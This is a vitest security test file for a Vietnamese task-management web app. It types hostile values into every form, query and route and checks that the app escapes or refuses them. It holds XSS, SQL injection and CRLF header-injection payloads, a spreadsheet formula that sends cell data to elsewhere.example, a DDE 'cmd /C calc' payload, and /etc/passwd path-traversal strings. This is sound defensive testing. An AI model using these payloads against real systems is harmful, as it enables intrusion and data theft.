import exceljs from 'exceljs';
import { beforeAll, describe, expect, it, test } from 'vitest';
import { routes } from '../src/app/routes.ts';
import { as, asNobody, type Fields, logged, type Visitor } from './support/app.ts';
import { type City, foundCity } from './support/city.ts';
import { asOwner, useFreshDatabase } from './support/database.ts';
import { toldOfInside } from './support/inside.ts';
import { type FieldOnPage, type FormOnPage, readPage, type Tag } from './support/page.ts';
import {
  addressOf,
  aMatter,
  anIntake,
  fillWorld,
  type Things,
  tasksInAllStates,
  useFreshFiles,
  type World,
} from './support/world.ts';

/** What people with bad intentions type, and what good people's machines produce. */
const values: Readonly<Record<string, string>> = {
  'markup and quotes': `"><script>alert(8841)</script><img src=x onerror=alert(8841)>' onfocus=alert(8841) x='</textarea></title>`,
  'a query': `'); drop table tasks.task cascade; -- \\'; vacuum full;`,
  'a formula': '=HYPERLINK("https://elsewhere.example/?"&A1,"mở")',
  'another formula': `@SUM(1+1)*cmd|' /C calc'!A0`,
  'an address that acts': 'javascript:alert(8841)',
  'an address elsewhere': '//elsewhere.example/\\elsewhere.example',
  'the end of a header':
    'x\r\nSet-Cookie: hostile=8841\r\nLocation: https://elsewhere.example\r\n\r\n<b>8841</b>',
  'hidden characters': 'báo\u0000 cáo\u0007\u001b[31m \u202Efdp.exe \u200b\ufeff\u2028 hết',
  'letters in pieces': 'Nghị quyết về Đổi mới, hoà bình'.normalize('NFD'),
  pictures: '👩‍👩‍👧‍👦 🏳️‍🌈 𠀀 hết',
  'marks of searches and languages': `__proto__ \${7*7} {{7*7}} %s !&|():*<-> "% _ \\ ' kl/14-tw`,
  'nothing but blanks': ' \t\u00a0 \u0000 \u200b ',
  'a hundred thousand bytes of letters': 'ặ'.repeat(33_334),
};

const asked = ['officer', 'assignee', 'leader', 'administrator', 'editor', 'moderator'] as const;

useFreshDatabase();
useFreshFiles();
let city: City;
let world: World;
let visitors: readonly (readonly [string, Visitor])[];
beforeAll(async () => {
  city = await foundCity();
  world = await fillWorld(city);
  const signedIn = asked.map(async (role) => [role, await as(city.actors[role])] as const);
  visitors = [...(await Promise.all(signedIn)), ['nobody', asNobody()]];
});

const pages = routes.filter(({ method }) => method === 'GET').map(({ path }) => path);

let filled = 0;

/** The pages over a matter, tasks and an intake that no form has touched yet, each with the route it comes from. */
async function freshPages(): Promise<readonly (readonly [route: string, address: string])[]> {
  filled += 1;
  const { directive, task, evidence, ...found } = await aMatter(city, {
    mark: `việc thứ ${filled}`,
    symbol: `${5000 + filled}-KL/TU`,
  });
  const intake = await anIntake(city.actors.officer);
  const tasks = Object.values(await tasksInAllStates(city, directive.id));
  const matter = { directive: directive.id, task, evidenceId: evidence, intake };
  const things: Things = { ...world.things, ...found, ...matter };
  return [
    ...pages.map((path) => [path, addressOf(path, things)] as const),
    ['selected', `/van-ban/${directive.id}/doc/them?tu=0&den=9`],
    ...tasks.map((id) => ['task', `/nhiem-vu/${id}`] as const),
    ...tasks.map((id) => ['edit', `/nhiem-vu/${id}/sua`] as const),
  ];
}

interface Sending {
  readonly by: string;
  readonly visitor: Visitor;
  readonly form: FormOnPage;
}

/** Forms that end the session, and those that carry nothing anyone types. */
const isLeft = ({ action, fields, method }: FormOnPage) =>
  method === 'GET' || action === '/dang-xuat' || fields.every(({ name }) => name === 'formKey');

const identifier = /[0-9a-f]{8}-[0-9a-f-]{27}/g;
const kindOf = ({ action, fields }: FormOnPage) =>
  `${action.replace(identifier, ':id')} ${fields.map(({ name }) => name).join(' ')}`;

// Which routes have forms for whom is found out once.
const barren = new Set<string>();

/** Every form of the system once, over things that no form has touched yet, each by someone who has it on a page. */
async function everyForm(): Promise<readonly Sending[]> {
  const kinds = new Map<string, Sending[]>();
  const fresh = await freshPages();
  for (const [by, visitor] of visitors) {
    const fertile = new Set<string>();
    for (const [route, address] of fresh) {
      if (barren.has(`${by} ${route}`)) continue;
      const answer = await visitor.get(address);
      const page = isPage(answer) ? readPage(await answer.text()) : undefined;
      for (const form of page?.forms.filter((one) => !isLeft(one)) ?? []) {
        const known = kinds.get(kindOf(form));
        // The frame has a form on every page; it makes none worth visiting for its own sake.
        if (form.action !== '/ngon-ngu') fertile.add(route);
        kinds.set(kindOf(form), [...(known ?? []), { by, visitor, form }]);
      }
    }
    for (const [route] of fresh) if (!fertile.has(route)) barren.add(`${by} ${route}`);
  }
  return onDifferentThings([...kinds.values()]);
}

/** Of each kind the one whose things no other form has: accepting a result would leave nothing to return. */
function onDifferentThings(kinds: readonly (readonly Sending[])[]): readonly Sending[] {
  const used = new Set<string>();
  const thingOf = ({ form }: Sending) => form.action.match(identifier)?.join() ?? '';
  const rarestFirst = [...kinds].sort((one, other) => one.length - other.length);
  return rarestFirst.flatMap((alike) => {
    const chosen = alike.find((one) => !used.has(thingOf(one))) ?? alike[0];
    if (chosen) used.add(thingOf(chosen));
    return chosen ? [chosen] : [];
  });
}

const isPage = (answer: Response) => answer.headers.get('content-type')?.startsWith('text/html') ?? false;

type Filling = Readonly<Record<FieldOnPage['kind'], (field: FieldOnPage) => readonly string[]>>;

const usual: Filling = {
  text: () => ['Nội dung bình thường'],
  secret: () => ['mat-khau-binh-thuong'],
  day: () => ['31/12/2027'],
  number: () => ['5'],
  hidden: ({ values }) => values,
  choice: ({ values, options }) => (values.some(Boolean) ? values : options.filter(Boolean).slice(0, 1)),
  file: () => [],
};

function fill({ fields }: FormOnPage, filling: Filling): Fields {
  const sent: Record<string, readonly string[]> = {};
  for (const field of fields) {
    if (field.name !== 'formKey')
      sent[field.name] = [...(sent[field.name] ?? []), ...filling[field.kind](field)];
  }
  return sent;
}

const visible = (text: string) =>
  text
    .normalize('NFC')
    .replace(/[\p{Cc}\p{Zl}]/gu, '')
    .trim();

// A door that was tried too often answers that it is not open now; only these say that we failed.
const brokenBy = new Set(['http.ourFault', 'http.notNow']);

/** Holds an answer against what no answer may do, whatever was sent. */
async function judge(answer: Response, sent: string): Promise<string> {
  expect(brokenBy.has(logged.at(-1)?.code ?? ''), sent).toBe(false);
  const location = answer.headers.get('location');
  if (location !== null) expect(location, sent).toMatch(/^\/(?![/\\])/);
  expect(answer.headers.get('set-cookie') ?? '', sent).not.toMatch(/(^|[\n;,]\s*)hostile=/);
  if (!isPage(answer)) return '';
  const html = await answer.text();
  const acting = readPage(html).tags.filter((tag) => !isHarmless(tag));
  expect(acting, sent).toEqual([]);
  return html;
}

const ownScript = /^\/assets\//;
const handlers = /^on|^style$/;
const addresses = new Set(['href', 'action', 'formaction', 'src']);
const within = /^(\/(?![/\\])|\?|#|data:image\/|mailto:\?|$)/;

/** Whether an element runs nothing but our own scripts and leads nowhere else. */
function isHarmless({ name, attributes }: Tag): boolean {
  if (name === 'script' && attributes.type !== 'application/ld+json' && !ownScript.test(attributes.src ?? ''))
    return false;
  if (name === 'img' && attributes.src === 'x') return false;
  return Object.entries(attributes).every(([attribute, value]) => {
    if (handlers.test(attribute)) return false;
    // What a page is called among all the pages of the world, it says with our own name before it.
    const named = name === 'link' ? value.replace(/^http:\/\/localhost(?=\/)/, '') : value;
    return !addresses.has(attribute) || within.test(named);
  });
}

/** What a person would have to type again: words that were sent and stand nowhere in the answer. */
function lost(html: string, form: FormOnPage, value: string): readonly string[] {
  const isWords = /\p{L}{2}/u.test(value) && /\s|\p{L}{8}/u.test(value);
  if (!isWords || visible(readPage(html).text).includes(visible(value))) return [];
  return form.fields.filter(({ kind }) => kind === 'text').map(({ name }) => `${form.action} ${name}`);
}

describe.each(Object.entries(values))('%s', { timeout: 90_000 }, (_, value) => {
  it('typed into every field of text is kept or refused in words, shown as text, and never lost', async () => {
    const away: string[] = [];
    const forms = await everyForm();
    expect(forms.length).toBeGreaterThan(30);
    for (const { by, visitor, form } of forms) {
      const typed = fill(form, { ...usual, text: () => [value], secret: () => [value] });
      const answer = await visitor.post(form.action, typed);
      const html = await judge(answer, `${by} ${form.action}`);
      if (answer.status >= 400) away.push(...lost(html, form, value));
      const next = answer.headers.get('location');
      if (next) await judge(await visitor.get(next), `${by} ${form.action} → ${next}`);
    }
    expect(away).toEqual([]);
  });

  it('sent in place of days, numbers, choices and identifiers is refused in words', async () => {
    everyFormOnce ??= everyForm();
    const hostile = () => [value];
    for (const { by, visitor, form } of await everyFormOnce) {
      const wrong = fill(form, { ...usual, day: hostile, number: hostile, choice: hostile, hidden: hostile });
      const html = await judge(await visitor.post(form.action, wrong), `${by} ${form.action}`);
      expect(toldOfInside(html.replaceAll(value, '')), form.action).toBeUndefined();
    }
  });

  it('asked in every question of every address changes nothing but the answer', async () => {
    const typed = encodeURIComponent(value.slice(0, 5000));
    for (const [path, { visitor, names }] of await questions()) {
      for (const query of [names.map((name) => `${name}=${typed}`).join('&'), `${names[0]}%5B%5D=${typed}`]) {
        await judge(await visitor.get(`${path}?${query}`), `${path} ${names.join(' ')}`);
      }
    }
  });

  it('in the place of an identifier is an address that stands nowhere', async () => {
    const part = encodeURIComponent(value.slice(0, 2000)) || '%20';
    const officer = visitors[0]?.[1] as Visitor;
    const administrator = visitors[3]?.[1] as Visitor;
    for (const path of pages.filter((one) => one.includes(':'))) {
      const address = path.replace(/:[a-zA-Z]+/g, part);
      for (const visitor of [officer, administrator, asNobody()])
        await judge(await visitor.get(address), path);
    }
  });
});

let everyFormOnce: Promise<readonly Sending[]> | undefined;

interface Question {
  readonly visitor: Visitor;
  readonly names: readonly string[];
}
let questionsFound: ReadonlyMap<string, Question> | undefined;

/** What each address can be asked, and by whom: the fields of its GET forms and the questions in links to it. */
async function questions(): Promise<ReadonlyMap<string, Question>> {
  if (questionsFound) return questionsFound;
  const found = new Map<string, Question>();
  const note = (path: string, visitor: Visitor, names: Iterable<string>) => {
    const known = found.get(path);
    const all = new Set([...(known?.names ?? []), ...names]);
    if (path && all.size > 0) found.set(path, { visitor: known?.visitor ?? visitor, names: [...all] });
  };
  for (const [, visitor] of visitors) {
    for (const address of pages.map((path) => addressOf(path, world.things))) {
      const answer = await visitor.get(address);
      if (!isPage(answer)) continue;
      const page = readPage(await answer.text());
      for (const { method, action, fields } of page.forms) {
        const names = fields.map(({ name }) => name);
        if (method === 'GET') note(action || address, visitor, names);
      }
      for (const link of page.links) {
        const url = new URL(link, `http://here${address}`);
        note(url.pathname, visitor, url.searchParams.keys());
      }
    }
  }
  for (const path of ['/dang-nhap', '/dang-nhap/ma']) note(path, asNobody(), ['tiep']);
  expect(found.size).toBeGreaterThan(8);
  questionsFound = found;
  return found;
}

test('fields of unheard-of names and shapes are passed over', async () => {
  const strange = {
    __proto__x: 'x',
    'constructor[]': ['a', 'b'],
    toString: 'x',
    'formKey[]': ['x'],
    'a[b][c]': 'x',
    '': 'x',
  };
  for (const { by, visitor, form } of await everyForm()) {
    const turned: Record<string, string | readonly string[]> = { ...strange };
    for (const [name, typed] of Object.entries(fill(form, usual))) {
      const values = [typed].flat().map(String);
      turned[name.endsWith('[]') ? name.slice(0, -2) : `${name}[]`] = values;
    }
    await judge(await visitor.post(form.action, turned), `${by} ${form.action}`);
  }
});

test('addresses that are no text at all stand nowhere', async () => {
  for (const path of [
    '/nhiem-vu/%E0%A4%A',
    '/van-ban/%00',
    '/%c0%ae%c0%ae/etc/passwd',
    '/assets/..%2f..%2fpackage.json',
    '/van-ban/x/tep/-1',
    '/nhiem-vu/%ff%fe',
  ]) {
    for (const [, visitor] of visitors) {
      const answer = await visitor.get(path);
      await judge(answer.clone(), path);
      expect(toldOfInside(await answer.text()), path).toBeUndefined();
    }
  }
});

test('a file of a hostile name is kept under a name that acts nowhere, and given out as a file', async () => {
  const names = [
    '../../../etc/passwd.txt',
    '"><img src=x onerror=alert(8841)>.txt',
    'a\r\nX-Own: 1.txt',
    '\u202Etxt.exe.txt',
    '.txt',
  ];
  const { in_progress: task } = await tasksInAllStates(city, world.things.directive);
  const assignee = new Map(visitors).get('assignee') as Visitor;
  const form = new FormData();
  form.set('note', 'Báo cáo kèm tệp');
  form.set('percent', '50');
  for (const name of names) form.append('evidence', new File([`minh chứng ${name}`], name));
  expect((await assignee.post(`/nhiem-vu/${task}/tien-do`, form)).status).toBe(303);
  const { links } = readPage(await judge(await assignee.get(`/nhiem-vu/${task}`), 'the task'));
  const files = links.filter((link) => link.startsWith(`/nhiem-vu/${task}/tep/`));
  expect(new Set(files).size).toBe(names.length);
  for (const file of files) {
    const { headers, status } = await assignee.get(file);
    expect([status, headers.get('x-own'), headers.get('x-content-type-options')]).toEqual([
      200,
      null,
      'nosniff',
    ]);
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="[^"\\/]*"; filename\*=UTF-8''[^"/\\]*$/,
    );
    expect(headers.get('content-security-policy')).toContain('sandbox');
    expect(decodeURIComponent(headers.get('content-disposition') ?? '')).not.toMatch(/\u202e/);
  }
});

describe('after all that was typed', () => {
  it('every page still shows it as text', async () => {
    for (const [role, visitor] of visitors) {
      for (const path of pages)
        await judge(await visitor.get(addressOf(path, world.things)), `${role} ${path}`);
    }
  });

  it('no list that is taken along holds a formula', async () => {
    const lists = pages.filter((path) => /[./](csv|xlsx)$/.test(path));
    expect(lists.length).toBeGreaterThan(3);
    let cells = 0;
    for (const [, visitor] of visitors) {
      for (const path of lists) {
        const answer = await visitor.get(path);
        if (answer.status !== 200) continue;
        const bytes = Buffer.from(await answer.arrayBuffer());
        if (path.endsWith('csv')) {
          expect(bytes.toString(), path).not.toMatch(/(^|[,\n])"?[=@+\t]/);
          continue;
        }
        const book = new exceljs.Workbook();
        await book.xlsx.load(bytes as unknown as ArrayBuffer);
        for (const sheet of book.worksheets) {
          sheet.eachRow((row) =>
            row.eachCell((cell) => {
              cells += 1;
              expect(cell.type, `${path} ${cell.address}`).not.toBe(exceljs.ValueType.Formula);
              expect(cell.type, `${path} ${cell.address}`).not.toBe(exceljs.ValueType.Hyperlink);
            }),
          );
        }
      }
    }
    expect(cells).toBeGreaterThan(100);
  });

  it('everything is where it was, composed, and the record is whole', async () => {
    const [kept] = await asOwner<{ tasks: number; pieces: number; controls: number }>(`
      select count(*)::int as tasks, count(*) filter (where title is not nfc normalized)::int as pieces,
        count(*) filter (where title ~ '[\\u0001-\\u0008\\u000e-\\u001f]')::int as controls from tasks.task`);
    expect(kept?.tasks).toBeGreaterThan(100);
    expect(kept).toMatchObject({ pieces: 0, controls: 0 });
    const record = await visitors[3]?.[1].get('/nhat-ky?kiem-tra=1');
    expect(
      readPage((await record?.text()) ?? '').tags.some(({ attributes }) =>
        attributes.class?.includes('notice-success'),
      ),
    ).toBe(true);
  });
});
